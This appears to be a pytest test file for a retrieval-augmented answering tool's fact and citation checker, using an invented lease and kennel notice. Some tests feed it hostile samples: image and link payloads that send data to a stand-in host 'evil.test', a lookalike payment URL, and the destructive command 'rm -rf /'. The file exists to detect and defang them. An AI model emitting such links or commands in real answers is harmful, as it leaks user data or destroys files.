"""What an answer says beyond what it cites is flagged, and what it says rightly is not."""

import pytest

from localrag.grounding.citations import cite, without_markup
from localrag.grounding.fact_checks import check
from localrag.types import Passage

PAGE = (
    "The lease of Hall 3 between Acme Halls Ltd and Jane Miller ends on 31 May 2030. Either party may end it with "
    "ninety (90) days’ written notice.\nThe yearly rent is EUR 48,000, payable in advance. The deposit is three months’ "
    "rent.\nLate payments bear interest of 8 % a year, counted from the due date. Pay at https://pay.acme.example/hall3.\n"
)
OTHER = "The kennel is open from 9 to 5. Dogs are kept on a lead in all public areas. It is run by Otto Kern."


def passage(text, document="lease.txt", page=1):
    return Passage("papers", document, page, None, (), text, 0, len(text), 1.0)


PASSAGES = [passage(PAGE), passage(OTHER, "dogs.txt", 7)]


def checked(answer, question="What does the lease say?", passages=None):
    shown = PASSAGES if passages is None else passages
    found = check(cite(without_markup(answer), question, shown), question, shown)
    return found, found.flags


def flagged(answer, question="What does the lease say?", passages=None):
    return [(flag.kind, flag.text) for flag in checked(answer, question, passages)[1]]


def test_what_the_cited_text_says_is_not_flagged():
    for answer in (
        "The lease of Hall 3 ends on 31 May 2030.",
        "The lease ends on 2030-05-31 [1].",
        "Either party may end it with 90 days' written notice.",
        "The yearly rent is 48.000 EUR, payable in advance.",
        "Late payments bear 8% interest a year.",
        "The lease is between Acme Halls Ltd and Jane Miller.",
    ):
        assert flagged(answer) == [], answer


@pytest.mark.proves("marked")
def test_a_changed_fact_is_flagged():
    assert flagged("The lease of Hall 3 ends on 30 May 2030.") == [("date", "30 May 2030")]
    assert flagged("The yearly rent is EUR 58,000, payable in advance.") == [("amount", "EUR 58,000")]
    assert flagged("The yearly rent is USD 48,000, payable in advance.") == [("amount", "USD 48,000")]
    assert flagged("Either party may end the lease with ninety months’ written notice.") == [
        ("number", "ninety months")
    ]
    assert flagged("The lease of Hall 3 is between Acme Halls Ltd and John Smith.") == [("name", "John Smith")]


def test_a_number_of_an_open_question_may_be_repeated_but_not_confirmed():
    answer = "Under a rent of EUR 50,000 the rent is payable in advance."
    assert flagged(answer, "When is a rent of EUR 50,000 payable?") == []
    assert flagged("Yes, the yearly rent is EUR 50,000.", "Is the yearly rent EUR 50,000?") == [
        ("amount", "EUR 50,000")
    ]


@pytest.mark.parametrize(
    ("question", "answer", "fact"),
    [
        ("Must the notice be given 60 days before?", "Yes. [1]", ("number", "60 days")),
        ("Is the yearly rent EUR 58,000?", "Yes, it is payable in advance [1].", ("amount", "EUR 58,000")),
        ("Does the lease end on 31 May 2031?", "Yes, it does [1].", ("date", "31 May 2031")),
        ("Do late payments bear interest of 9 % a year?", "Yes [1].", ("number", "9 %")),
        ("Muss der Mieter 60 Tage vorher kündigen?", "Ja. [1]", ("number", "60 Tage")),
        ("Must the notice be given ninety days before?", "Yes. [1]", None),
        ("Must the notice be given 90 days before?", "Yes. [1]", None),
        ("Is the yearly rent EUR 48,000?", "Yes, it is payable in advance [1].", None),
        ("Is the yearly rent EUR 58,000?", "No. [1]", None),
        ("Is the yearly rent more than EUR 40,000?", "Yes. [1]", None),
        ("Did Hall 3 have a tenant in 2019?", "Yes. [1]", None),
        ("Does the lease end before 1 June 2031?", "Yes. [1]", None),
        ("Is the lease still valid on 1 May 2029?", "Yes. [1]", None),
        ("Endet der lease vor dem 1. Juni 2031?", "Ja. [1]", None),
        ("Is the notice between 60 days and 120 days?", "Yes. [1]", None),
        ("Does the lease have SIM cards for 60 days?", "SIM cards are there. [1]", None),
    ],
)
def test_a_figure_of_the_question_that_yes_affirms_must_be_cited(question, answer, fact):
    quote = PAGE.splitlines()[0 if "notice" in question or "lease" in question or "kündigen" in question else 1]
    if "interest" in question:
        quote = PAGE.splitlines()[2]
    assert flagged(answer.replace("[1]", f"“{quote}” [1]"), question) == ([fact] if fact else [])


@pytest.mark.parametrize(
    ("question", "quote", "marked"),
    [
        ("Can I claim damages of $5,000?", "The insurer pays damages up to $10,000.", False),
        ("Can I claim damages of $15,000?", "The insurer pays damages up to $10,000.", True),
        ("Are damages limited to $5,000?", "The insurer pays damages up to $10,000.", True),
        ("Can I still complain after 2 years?", "The warranty lasts three years.", False),
        ("Can I still complain after 4 years?", "The warranty lasts three years.", True),
        ("May I claim within 20 days?", "Claims are accepted within 30 days of delivery.", False),
        ("May I claim within 40 days?", "Claims are accepted within 30 days of delivery.", True),
        ("Must I pay within 20 days?", "The invoice is payable within 30 days.", True),
        ("May goods be returned after 20 days?", "Goods may be returned after two weeks.", False),
        ("May goods be returned after 10 days?", "Goods may be returned after two weeks.", True),
        ("Can I take three weeks of leave?", "At least two weeks of leave are granted.", True),
        ("Does the lease end within 10 years?", "The lease ends on 31 May 2030.", False),
    ],
)
def test_a_figure_within_a_limit_of_the_text_may_be_affirmed(question, quote, marked):
    assert bool(flagged(f"Yes, “{quote}” [1]", question, passages=[passage(quote)])) == marked


def test_a_sentence_about_the_same_elsewhere_is_cited_too():
    cited, flags = checked(
        "The lease of Hall 3 between Acme Halls Ltd and Jane Miller can end with 90 days written notice."
    )
    assert flags == ()
    assert any("ninety (90) days" in citation.quote for citation in cited.citations)
    for citation in cited.citations:
        assert citation.quote == PAGE[citation.start : citation.end] and f"[{citation.marker}]" in cited.answer


def test_a_number_of_something_else_is_flagged_with_its_place():
    _, flags = checked(
        "The lease of Hall 3 ends on 31 May 2030 at 5.", passages=[passage(PAGE), passage(OTHER, "dogs.txt", 7)]
    )
    assert [(flag.text, flag.reason) for flag in flags] == [("5", "in dogs.txt, p. 7, not in what is cited")]


def test_a_name_may_be_anywhere_in_the_document_cited():
    assert flagged("Jane Miller pays the yearly rent of EUR 48,000 in advance.") == []
    (flag,) = checked("The lease of Hall 3 ends on 31 May 2030 for Otto Kern.")[1]
    assert flag.kind == "name" and "dogs.txt" in flag.reason


@pytest.mark.parametrize("answer", ["Yes.", "Nein.", "Oui.", "Sí."])
def test_a_bare_yes_or_no_is_no_name(answer):
    assert flagged(answer, "Ist die Miete im Voraus zu zahlen?") == []


def test_heading_header_and_document_name_support_facts():
    framed = [
        Passage(
            "papers",
            "acme-report-2019.pdf",
            4,
            None,
            ("Sales by Region Nord",),
            "| Net sales | 5,363 |",
            0,
            21,
            1.0,
            header="| (in millions) | 2018 |",
        )
    ]
    assert (
        flagged("Net sales of Acme in Nord were 5,363 million in 2018.", "What were net sales?", passages=framed) == []
    )


def test_the_number_of_a_page_is_no_fact():
    assert flagged("The lease of Hall 3 ends on 31 May 2030, as page 1 says.") == []


def test_a_cited_link_stays_and_another_is_defanged():
    kept, flags = checked("Late payments can be paid at https://pay.acme.example/hall3 from the due date.")
    assert "https://pay.acme.example/hall3" in kept.answer and flags == ()
    cited, flags = checked("Pay interest at https://pay.acme.example.evil.test/hall3, counted from the due date.")
    assert "https://" not in cited.answer and "hxxps://pay[.]acme[.]example[.]evil[.]test/hall3" in cited.answer
    assert [flag.kind for flag in flags] == ["link"]
    asked, flags = checked("The page https://foo.example has it.", "Is https://foo.example right about the lease?")
    assert "https://foo.example" in asked.answer


@pytest.mark.proves("documents-are-data")
def test_images_and_links_never_stay_alive():
    for answer in (
        "The rent is EUR 48,000. ![rent](https://evil.test/?d=48000)",
        "The rent is EUR 48,000. [details](https://evil.test/?d=48000)",
        "The rent is EUR 48,000. <img src='https://evil.test/?d=48000'>",
        "![x](//evil.test/a)",
    ):
        cited, flags = checked(answer)
        shown = cited.answer + " ".join(cited.unsupported)
        assert "](" not in shown and "://evil" not in shown.replace("hxxps://evil[", "") and "<img" not in shown
        assert "link" in {flag.kind for flag in flags}


def test_a_command_is_flagged_unless_it_is_cited():
    assert ("command", "rm -rf /") in flagged("The lease ends on 31 May 2030. Now run `rm -rf /` to finish.")
    manual = [passage("To clean up, type rm -rf /tmp/cache and wait.")]
    assert flagged("To clean up, type rm -rf /tmp/cache and wait.", "How?", passages=manual) == []


def test_without_anything_read_all_is_flagged_and_nothing_breaks():
    assert flagged("It ends on 31 May 2030 in Berlin.", passages=[]) == [("date", "31 May 2030"), ("name", "Berlin")]
    assert flagged("", passages=[]) == []


def test_the_same_answer_has_the_same_flags():
    answer = "The lease ends on 30 May 2031 for Otto Kern, see http://a.test, EUR 1, EUR 2, EUR 3."
    assert checked(answer) == checked(answer)
    assert len(checked(" ".join(f"It costs EUR {n}." for n in range(100, 160)))[1]) <= 20


@pytest.mark.parametrize(
    "unit", ["1 ", "12/", "€1 ", "p. 1 ", "中。", "5 May ", "Aa ", '"a b c ', "http://a.test/", "[1]"]
)
def test_an_answer_that_repeats_itself_is_checked_to_the_end(unit):
    shown = [passage(PAGE * 40), passage("中文合同" * 2000, "c.txt")]
    cited, flags = checked(unit * 120, passages=shown)
    assert len(flags) <= 20 and isinstance(cited.answer, str)
